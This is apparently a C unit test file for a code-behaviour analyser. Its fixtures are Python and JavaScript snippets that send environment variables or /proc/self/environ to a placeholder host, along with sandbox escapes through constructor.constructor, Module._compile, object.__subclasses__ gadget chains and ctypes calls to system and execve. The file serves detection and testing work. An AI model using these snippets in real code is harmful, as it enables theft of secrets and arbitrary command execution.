/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_sending_test.c - secrets that are handed to a connection by whatever method, and powers
 * under the names that all objects have.
 */
#include "behavior_case.h"

#define ENV "dict(os.environ)"

static const struct behavior_case python[] = {
    { "from multiprocessing.connection import Client\nimport os\n"
      "Client(('a.invalid', 80)).send(" ENV ")\n",
      "flow env-all network Client().send", NULL },
    { "import asyncio, os\nasync def f():\n"
      "    r, w = await asyncio.open_connection('a.invalid', 80)\n    w.write(str(" ENV "))\n",
      "flow env-all network open_connection().write", NULL },
    { "import xmlrpc.client, os\ns = xmlrpc.client.ServerProxy('https://a.invalid/')\n"
      "s.system.add(" ENV ")\n",
      "flow env-all network ServerProxy().system.add", NULL },
    { "import paramiko\nc = paramiko.SSHClient()\nc.open_sftp().put('/proc/self/environ', 'x')\n",
      "flow env-all network SSHClient().open_sftp().put", NULL },
    { "import ftplib, io, os\nftplib.FTP_TLS('a.invalid').storlines('STOR x', io.BytesIO(" ENV
      "))\n",
      "flow env-all network FTP_TLS().storlines", NULL },
    { "import logging.handlers, logging, os\n"
      "h = logging.handlers.SysLogHandler(('a.invalid', 514))\n"
      "h.emit(logging.makeLogRecord(" ENV "))\n",
      "flow env-all network SysLogHandler().emit", NULL },
    { "import httpx, os\nwith httpx.Client() as c:\n    c.patch('https://a.invalid/', json=" ENV
      ")\n",
      "flow env-all network httpx.Client().patch", NULL },
    { "import websocket, os\nw = websocket.create_connection('wss://a.invalid')\nw.send(" ENV ")\n",
      "flow env-all network create_connection().send", NULL },
    { "import socket, os\ns = socket.socket()\ns.connect(('a.invalid', 80))\n"
      "s.makefile('w').write(str(" ENV "))\n",
      "flow env-all network socket.socket().makefile().write", NULL },
    { "import socket, os\ns = socket.socket()\ns.makefile('w').write(os.getcwd())\n"
      "s.settimeout(os.environ.get('TIMEOUT'))\n",
      NULL, "flow" },
    { "import logging.handlers\nlogging.handlers.HTTPHandler('logs.stranger.dev', '/in')\n"
      "logging.handlers.SysLogHandler(address=('192.0.2.4', 514))\n",
      "destination log HTTPHandler logs.stranger.dev\ndestination log SysLogHandler 192.0.2.4",
      NULL },
    { "import logging.handlers\nlogging.handlers.SysLogHandler(('localhost', 514))\n"
      "logging.handlers.SysLogHandler('/dev/log')\nlogging.handlers.SocketHandler(host, 1)\n",
      "capability network", "destination" },
    { "import os\nbuild(" ENV ").write(1)\n", NULL, "flow env-all network" },
};

static const struct behavior_case script[] = {
    { "const s = require('http2').connect('https://a.invalid');\n"
      "const r = s.request({ ':method': 'POST' });\nr.end(JSON.stringify(process.env));",
      "flow env-all network http2.connect().request().end", NULL },
    { "require('fs').createReadStream('/proc/self/environ')"
      ".pipe(require('net').connect(80, 'a.invalid'));",
      "flow env-all network net.connect()", NULL },
    { "const {pipeline} = require('stream/promises');\n"
      "pipeline(require('fs').createReadStream('/proc/self/environ'), gzip(),"
      " require('net').connect(80, 'a.invalid'));",
      "flow env-all network pipeline", NULL },
    { "const fs = require('fs'), tls = require('tls');\n"
      "const s = tls.connect(443, 'a.invalid', () => {"
      " fs.createReadStream('/proc/self/environ').pipe(s); });",
      "flow env-all network tls.connect()", NULL },
    { "const s = require('net').connect(80, 'a.invalid', () =>"
      " s.write(JSON.stringify(process.env)));",
      "flow env-all network net.connect().write", NULL },
    { "require('http').get(`http://${h}/2018-06-01/runtime/invocation/next`,"
      " (r) => r.pipe(require('https').request('https://a.invalid/')));",
      "flow event network https.request()", NULL },
    { "exports.proxy = (req, res) => { const o = require('http').request(req.url, (r) =>"
      " r.pipe(res)); req.pipe(o); };",
      "capability network", "flow" },
    { "require('fs').createReadStream('a.txt').pipe(require('net').connect(80, 'a.invalid'));",
      "capability network", "flow" },
};

/* Powers under the names that all objects have. */
static const struct behavior_case makers[] = {
    { "const t = require('fs').readFileSync('x.json', 'utf8');\n"
      "module.constructor.prototype._compile.call(module, t, 'x');",
      "flow data-file eval Module._compile", NULL },
    { "const t = require('fs').readFileSync('x.json', 'utf8');\nmodule.__proto__._compile(t, 'x');",
      "flow data-file eval Module._compile", NULL },
    { "const M = require('module');\n"
      "M.prototype._compile.call(new M('x'), require('fs').readFileSync('x.css', 'utf8'), 'x');",
      "flow data-file eval Module._compile", NULL },
    { "const t = require('fs').readFileSync('x.json', 'utf8');\nt.constructor.constructor(t)();",
      "capability hidden-name Function\nflow data-file eval Function", NULL },
    { "const t = require('fs').readFileSync('x.json', 'utf8');\nmodule.exports.constructor(t)();",
      "flow data-file eval Function", NULL },
    { "class A { get e() { return this.constructor.constructor('return process')().env; } }\n"
      "fetch('http://a.invalid', { body: JSON.stringify(new A().constructor"
      ".constructor('return process')().env) });",
      "capability hidden-name Function\nflow env-all network", NULL },
    { "const F = Object.getPrototypeOf(async function () {}).constructor;\n"
      "new F(require('fs').readFileSync('x.txt', 'utf8'))();",
      "flow data-file eval Function", NULL },
    { "require.extensions['.js'](module, __dirname + '/data.json');",
      "flow data-file eval require.extensions", NULL },
    { "require('module')._extensions['.js'](module, __dirname + '/data.json');",
      "flow data-file eval _extensions", NULL },
    { "require('repl').start({ input: require('fs').createReadStream('x.txt') });",
      "flow data-file eval repl.start", NULL },
    /* and what looks like them */
    { "const root = x.constructor.constructor('return this')();", NULL, "capability\nflow" },
    { "class A { constructor(o) { this.o = o; } copy() { return new this.constructor(this.o); } }\n"
      "const n = a.constructor.name, b = a.constructor(1);",
      NULL, "capability\nflow" },
    { "class C { _compile(s) { return s; } run(e) { return this._compile(e, 'x'); } }", NULL,
      "capability\nflow" },
    { "const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;\n"
      "exports.is = (f) => f instanceof AsyncFunction;",
      NULL, "capability\nflow" },
};

static const struct behavior_case roots[] = {
    { "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
      ".__init__.__globals__['system']('id')\n",
      "capability hidden-name object.__subclasses__\ncapability hidden-name os.system\n"
      "capability process os.system id",
      NULL },
    { "object.__subclasses__()\n().__class__.mro()[1].__subclasses__()\n",
      "capability hidden-name object.__subclasses__", NULL },
    { "import builtins\nbuiltins.object.__subclasses__()\n",
      "capability hidden-name object.__subclasses__", NULL },
    { "def f(x):\n    return x.object.__subclasses__() + x.base.__subclasses__()\n", NULL,
      "capability" },
    { "def f(x):\n    return getattr(x.__init__, '__globals__')['popen']('id')\n",
      "capability hidden-name os.popen\ncapability process os.popen", NULL },
    { "import ctypes\nctypes.CDLL(None).system(b'id')\n",
      "capability process system id\ncapability hidden-name system", NULL },
    { "import ctypes\nl = ctypes.CDLL('x.so')\nl.execute(1)\nl.system_info()\n",
      "capability native-load", "process\nhidden-name" },
    { "import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').execve(b'/bin/id')\n",
      "capability process exec", NULL },
    { "import ctypes\nctypes.pythonapi.PyRun_SimpleString(open('a.txt').read().encode())\n",
      "flow data-file eval PyRun", NULL },
    { "import ctypes\nctypes.CDLL('libm.so.6').cos(1)\n", "capability native-load", "process" },
    { "class Base: pass\ndef all():\n    return Base.__subclasses__()\n", NULL, "capability" },
    { "def f(x):\n    return x.__init__.__globals__.get('__name__')\n", NULL, "capability" },
};

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
    check_cases(LW_LANG_PYTHON, roots, LW_COUNT(roots));
}

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
    check_cases(LW_LANG_JAVASCRIPT, makers, LW_COUNT(makers));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_script) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
